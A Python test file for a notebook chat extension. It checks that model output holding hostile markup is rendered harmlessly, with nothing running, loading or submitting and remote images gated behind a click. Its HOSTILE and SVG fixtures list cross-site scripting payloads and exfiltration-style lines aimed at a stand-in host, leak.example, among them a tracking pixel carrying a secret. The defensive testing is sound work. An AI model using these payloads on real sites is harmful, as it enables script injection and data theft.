"""What a model says is hostile input: shown as text or blocked, live and frozen.

The `guest` fixture fails a test in which a dialog opened or a request left this machine.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from gated_chat import ChatServer, Step, citation, gate, image, reasoning, text
from lab import LabServer, Notebook, Visit

from mesh_nb.notebook import _code

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')">'
    b'<script>alert("svg")</script><image href="https://leak.example/svg.png"/></svg>'
)
HOSTILE = {
    "script": '<script>alert("script")</script>\n\nafter script',
    "onerror": '<img src=x onerror="alert(1)"> after onerror',
    "inline": 'text <svg onload=alert(2)><a href="javascript:alert(3)">x</a> after inline',
    "iframe": '<iframe src="https://leak.example/frame"></iframe> after iframe',
    "form": '<form action="https://leak.example/form"><button>send</button></form> after form',
    "style": "<style>@import url(https://leak.example/style.css); * {display: none}</style> after style",
    "link": "[go](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) after link",
    "auto": "<javascript:alert(6)> https://safe.example/page after auto",
    "image": "![pixel](https://leak.example/pixel.png?secret=1) after image",
    "reference": "![ref][r] after reference\n\n[r]: https://leak.example/reference.png",
    "svg data": "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDcpIi8+) after svg",
    "separators": "line\u2028separator and\u2029paragraph and\u0085next after separators",
    "fence": "```html\n<script>alert(8)</script>\n</script><img src=x onerror=alert(9)>\n```\n\nafter fence",
    "math": "$\\href{javascript:alert(10)}{x}$ after math",
    "id": '<div id="main" class="jp-Notebook">after id</div>',
}
ENDS = ["script", "onerror", "inline", "iframe", "form", "style", "link", "auto", "image", "reference", "svg"]
MORE_ENDS = ["separators", "fence", "math", "id"]


@pytest.fixture
def chat() -> Iterator[ChatServer]:
    with ChatServer() as server:
        yield server


def run(lab: LabServer, guest: Visit, chat: ChatServer, name: str, steps: list[Step]) -> Notebook:
    chat.models["m"] = [*steps, gate("end")]
    first = f"%env OPENAI_BASE_URL={chat.base_url}\n%load_ext mesh_nb"
    notebook = guest.open(lab, lab.write(name, first, "%%mesh -m m -o run\nSay it."))
    notebook.execute(0)
    notebook.run(1)
    return notebook


def assert_harmless(notebook: Notebook) -> None:
    """Nothing in the output can run, load or submit; what is a link goes to an http address."""
    out = notebook.output(1)
    assert out.locator("script, iframe, form, object, embed").count() == 0
    assert {f"<style>{style}</style>\n" for style in out.locator("style").all_text_contents()} <= {
        _code.style()
    }
    assert out.locator("img").count() == 0
    for link in out.locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("https://safe.example", "https://leak.example"))
        assert "noopener" in (link.get_attribute("rel") or "")
    handlers = (
        "e => [...e.querySelectorAll('*')].flatMap(n => n.getAttributeNames()).filter(a => /^on/i.test(a))"
    )
    assert out.evaluate(handlers) == []
    shadow = (
        "e => [...e.querySelectorAll('*')].filter(n => n.shadowRoot)"
        ".flatMap(n => [...n.shadowRoot.querySelectorAll('*')])"
        ".flatMap(n => n.getAttributeNames()).filter(a => /^on/i.test(a))"
    )
    assert out.evaluate(shadow) == []


def test_hostile_markdown_is_text_live_and_frozen(lab: LabServer, guest: Visit, chat: ChatServer) -> None:
    steps: list[Step] = [reasoning("<script>alert(14)</script> ![x](https://leak.example/thought.png)")]
    for said in HOSTILE.values():
        half = len(said) // 2
        steps += [text(said[:half]), text(said[half:] + "\n\n")]
    notebook = run(lab, guest, chat, "hostile.ipynb", steps)
    out = notebook.output(1)
    for word in ENDS + MORE_ENDS:
        out.get_by_text(f"after {word}").first.wait_for()
    out.get_by_text('<script>alert("script")</script>').first.wait_for()
    assert_harmless(notebook)
    chat.open("end")
    notebook.wait_done(1)
    out.get_by_role("button", name="Stop").wait_for(state="detached")
    for word in ENDS + MORE_ENDS:
        out.get_by_text(f"after {word}").first.wait_for()
    assert_harmless(notebook)
    assert guest.page.title() != ""
    assert guest.popups == []


def test_a_hostile_file_and_source_are_named_not_shown(
    lab: LabServer, guest: Visit, chat: ChatServer
) -> None:
    steps: list[Step] = [
        text("A file and a source."),
        image(SVG, "image/svg+xml"),
        image(b"<script>alert(1)</script>", "text/html"),
        citation("javascript:alert(11)", "<img src=x onerror=alert(12)>", 0, 6, "<script>alert(13)</script>"),
    ]
    notebook = run(lab, guest, chat, "files.ipynb", steps)
    out = notebook.output(1)
    out.get_by_text("image/svg+xml").wait_for()
    out.get_by_text("text/html").wait_for()
    out.get_by_text("<img src=x onerror=alert(12)>").first.wait_for()
    assert_harmless(notebook)
    chat.open("end")
    notebook.wait_done(1)
    out.get_by_role("button", name="Stop").wait_for(state="detached")
    out.get_by_text("image/svg+xml").wait_for()
    out.get_by_text("<img src=x onerror=alert(12)>").first.wait_for()
    assert_harmless(notebook)


def test_a_line_of_300_kb_is_shown_and_the_page_still_answers(
    lab: LabServer, guest: Visit, chat: ChatServer
) -> None:
    piece = "x[(`*_<" * 750
    steps: list[Step] = [text("begin "), *(text(piece) for _ in range(58)), text(" finish")]
    assert sum(len(step["content"]) for step in steps if isinstance(step, dict)) > 300_000
    notebook = run(lab, guest, chat, "long-line.ipynb", steps)
    notebook.output(1).get_by_text("finish").wait_for()
    assert_harmless(notebook)
    chat.open("end")
    notebook.wait_done(1)
    notebook.output(1).get_by_text("finish").wait_for()
    assert len(notebook.output(1).inner_text()) > 300_000
    assert_harmless(notebook)


def test_a_remote_image_loads_only_when_the_reader_asks(
    lab: LabServer, guest: Visit, chat: ChatServer
) -> None:
    notebook = run(lab, guest, chat, "remote.ipynb", [text("![a chart](https://leak.example/a.png)\n\nend")])
    button = notebook.output(1).get_by_role("button", name="Load image from leak.example: a chart")
    button.wait_for()
    assert guest.blocked == []
    with guest.page.expect_event("requestfailed"):
        button.click()
    assert guest.blocked == ["https://leak.example/a.png"]
    guest.blocked.clear()
    chat.open("end")
    notebook.wait_done(1)
